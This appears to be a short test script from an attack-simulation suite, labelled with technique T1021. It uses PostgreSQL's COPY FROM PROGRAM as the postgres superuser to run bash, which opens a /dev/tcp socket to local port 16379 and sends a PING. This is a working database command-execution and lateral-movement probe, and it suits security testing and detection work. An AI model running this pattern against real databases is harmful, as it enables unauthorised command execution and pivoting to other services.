# workload: postgres
# technique: T1021
# finds: 16379
psql=$(echo /usr/lib/postgresql/*/bin/psql)
$psql -h 127.0.0.1 -p 15432 -U postgres -qc "create temp table t(x text);
    copy t from program 'bash -c \"exec 3<>/dev/tcp/127.0.0.1/16379; echo PING >&3; head -n 1 <&3\"'"
